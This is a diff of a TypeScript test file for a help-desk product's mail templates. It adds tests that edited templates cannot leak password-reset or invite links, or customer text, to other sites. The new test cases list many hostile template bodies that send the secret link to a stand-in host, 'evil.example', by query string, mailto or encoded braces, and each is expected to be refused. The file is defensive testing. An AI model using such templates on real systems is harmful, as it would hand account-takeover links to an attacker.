@@ -1,7 +1,7 @@
 import { mkdir, readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { desc, eq, sql } from 'drizzle-orm';
-import { describe, expect, it } from 'vitest';
+import { afterEach, describe, expect, it } from 'vitest';
 import type { LoggedMail, MailText } from '#shared/mails.ts';
 import { domains } from '../../domains.ts';
 import { mailsOf } from '../../platform/domain.ts';
@@ -9,6 +9,8 @@ import { outgoingMails } from '../../platform/mail/tables.ts';
 import { fileTicket, signedInAs } from '../../testing/factories.ts';
 import { testProduct } from '../../testing/harness.ts';
 import { pruneMails } from './jobs.ts';
+import { mailTemplateTexts } from './tables.ts';
+import { wordingsKey } from './wordings.ts';
 
 const product = testProduct();
 
@@ -40,6 +42,12 @@ async function mailbox(): Promise<string[]> {
   return Promise.all(names.map((name) => readFile(join(folder, name), 'utf8')));
 }
 
+/** Quoted-printable text as it reads. */
+const decoded = (mail: string) =>
+  mail
+    .replaceAll(/=\r?\n/g, '')
+    .replaceAll(/=([0-9A-F]{2})/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
+
 describe('the log of mails', () => {
   it('says what became of each, and never what stands in it', async () => {
     const admin = await asAdmin();
@@ -48,8 +56,19 @@ describe('the log of mails', () => {
     await drain();
     const { body, text } = await admin.get<Answer>(`${log}?to=${encodeURIComponent(user.email)}`);
     expect(body.data).toMatchObject([
-      { to: user.email, template: 'request_received', state: 'sent', attempts: 1, can_resend: true },
+      {
+        to: user.email,
+        template: 'request_received',
+        state: 'sent',
+        transport: 'file',
+        attempts: 1,
+        can_resend: true,
+      },
     ]);
+    const sent = await admin.get<Answer>(`${log}?state=sent&transport=smtp`);
+    expect(sent.body.data).toEqual([]);
+    // What became a file was sent to nobody, whatever mail server comes later.
+    expect((await admin.trpc.system.get.query()).system.mail.last_sent_at).toBeNull();
     expect(body.data[0]?.subject).toContain(`#${id}`);
     expect(text).not.toContain('sealed');
     const first = await admin.get<Answer>(`${log}?limit=1`);
@@ -131,6 +150,11 @@ describe('a mail', () => {
 });
 
 describe('the words of a mail', () => {
+  afterEach(async () => {
+    await product.services.db.delete(mailTemplateTexts);
+    product.services.cache.forget(wordingsKey);
+  });
+
   it('begin with those of the product, with variables', async () => {
     const admin = await asAdmin();
     const { body } = await admin.get<Answer>(templates);
@@ -172,9 +196,11 @@ describe('the words of a mail', () => {
     const mail = (await mailbox()).find((text) => text.includes('we have'));
     expect(mail).toBeDefined();
     const preview = await admin.post<Answer>(`${path}/preview`, { language: 'en' });
-    expect(preview.body.subject).toBe('Got it 🙂 A <i>b</i> & c');
-    expect(preview.body.html).toContain('A &lt;i&gt;b&lt;/i&gt; &amp; c');
+    expect(preview.body.subject).toBe('Got it 🙂 The printer prints blank pages');
+    expect(preview.body.html).not.toContain('&lt;i&gt;');
     expect(preview.body.html).toContain('View request');
+    const inGerman = await admin.post<Answer>(`${path}/preview`, { language: 'de' });
+    expect(inGerman.body.subject).toContain('Der Drucker druckt leere Seiten');
     const german = (await admin.get<Answer>(`${path}?language=de`)).body.template;
     expect(german.changed).toBe(false);
     expect((await admin.send('DELETE', `${path}?language=en`)).status).toBe(200);
@@ -193,6 +219,91 @@ describe('the words of a mail', () => {
     const words = { language: 'en', subject: 'Hello', body: '<p>Hello</p>', ...wrong };
     const { status, body } = await admin.send<Answer>('PUT', `${templates}/reset_password`, words);
     expect([status, Object.keys(body.errors)]).toEqual([422, [field]]);
+  });
+
+  const secretMails = ['reset_password', 'verify_address', 'confirm_address', 'invite', 'workspace_invite'];
+
+  it('know which values are secrets', () => {
+    const linked = mailsOf(domains).filter(
+      (template) => 'link' in (template.editing?.sample((line) => line as never) ?? {}),
+    );
+    // The link to an account that was made leads to a form that everybody has.
+    expect(linked.map(({ name }) => name).sort()).toEqual([...secretMails, 'account_made'].sort());
+    expect(mailsOf(domains).flatMap(({ name, secrets }) => (secrets ? [name] : []))).toEqual(
+      expect.arrayContaining(secretMails),
+    );
+  });
+
+  const evil = 'https://evil.example/';
+
+  it.each([
+    [`<p><a href="${evil}?l={{link}}">Reset</a></p>`],
+    [`<p><a href="${evil}?l={{ link }}">Reset</a></p>`],
+    [`<p><a href="${evil}?l=&#123;{link}}">Reset</a></p>`],
+    ['<p><a href="{{link}}&x=1">Reset</a></p>'],
+    ['<p><a href="{{site_url}}{{link}}">Reset</a></p>'],
+    ['<p><a href="mailto:evil@evil.example?body={{link}}">Reset</a></p>'],
+    [`<p><a href="https://a.example/"><a href="${evil}?{{link}}">Reset</a></a></p>`],
+    [`<p>${evil}?l={{link}}</p>`],
+    [`<p>${evil}?l=<b>{{link}}</b></p>`],
+    [`<p>${evil}?l=<a href="{{link}}">{{link}}</a></p>`],
+    [`<p><a href="${evil}?l=">here </a>{{link}}</p>`],
+    [`<p><a href="${evil}">{{link}}</a></p>`],
+    ['<p>evil.example/{{link}}</p>'],
+    ['<p>{{site_name}}{{link}}</p>'],
+  ])('never send a secret elsewhere: %s', async (body) => {
+    const admin = await asAdmin();
+    for (const name of ['reset_password', 'invite']) {
+      const { status, body: answer } = await admin.send<Answer>('PUT', `${templates}/${name}`, {
+        language: 'en',
+        body,
+      });
+      expect([status, Object.keys(answer.errors)]).toEqual([422, ['body']]);
+      expect(answer.message).toContain('link');
+    }
+    const { user } = await signedInAs(product, 'customers');
+    const stored = { name: 'reset_password', language: 'en', subject: 'Now: {{link}}', body };
+    await product.services.db.insert(mailTemplateTexts).values(stored);
+    product.services.cache.forget(wordingsKey);
+    await (await product.visit()).post('/auth/forgot-password', { email: user.email });
+    await drain();
+    const mail = decoded((await mailbox()).findLast((text) => text.includes(`To: ${user.email}`)) ?? '');
+    expect(mail).toMatch(/^Subject: Now:$/m);
+    const before = mail.split(/https?:\/\/localhost:\d+\/password\/reset/).slice(0, -1);
+    // In plain text and in HTML the button, which is no part of the wording, is a way that is left.
+    expect(before.length).toBeGreaterThan(1);
+    expect(before.filter((text) => !/(?:\s|<a href="|[^\x20-\x7e])$/.test(text))).toEqual([]);
+    expect(mail).not.toMatch(/evil\S*password\/reset/);
+  });
+
+  it('may use a secret as the whole of a link, and as text by itself', async () => {
+    const admin = await asAdmin();
+    for (const body of [
+      '<p>Click <a href="{{link}}">here</a>, or open ({{link}}).</p>',
+      '<p>打开<a href="{{ link }}">{{link}}</a></p><p>链接：{{link}}</p>',
+      '<p><a href="{{site_url}}/help?name={{reader_name}}">Help</a></p><p>{{link}}<br>{{link}}</p>',
+    ]) {
+      const saved = await admin.send<Answer>('PUT', `${templates}/reset_password`, { language: 'en', body });
+      expect(saved.status).toBe(200);
+      const { html } = (await admin.post<Answer>(`${templates}/reset_password/preview`, { language: 'en' }))
+        .body;
+      expect(html.split('https://example.org/sample-link').length).toBeGreaterThan(2);
+    }
+  });
+
+  it('send what customers wrote to no other site, but numbers', async () => {
+    const admin = await asAdmin();
+    const save = async (href: string) =>
+      (
+        await admin.send<Answer>('PUT', `${templates}/reply_for_customer`, {
+          language: 'en',
+          body: `<p><a href="${href}">Rate us</a></p>`,
+        })
+      ).status;
+    expect(await save(`${evil}?text={{excerpt}}`)).toBe(422);
+    expect(await save('{{site_url}}.evil.example/?text={{excerpt}}')).toBe(422);
+    expect(await save(`${evil}?ticket={{ticket_id}}`)).toBe(200);
+    expect(await save('{{site_url}}/hc/search/{{subject}}')).toBe(200);
   });
 
   it('are not overwritten by who has not read them', async () => {
@@ -228,7 +339,14 @@ describe('the words of a mail', () => {
     expect((await admin.get<Answer>(`${templates}/reset_password`)).body.template.changed).toBe(false);
     const { data } = (await admin.get<Answer>(`${log}?to=somebody@example.org`)).body;
     expect(data).toMatchObject([
-      { subject: 'A try', template: 'reset_password', state: 'sent', attempts: 1, can_resend: false },
+      {
+        subject: 'A try',
+        template: 'reset_password',
+        state: 'sent',
+        transport: 'file',
+        attempts: 1,
+        can_resend: false,
+      },
     ]);
   });
 });
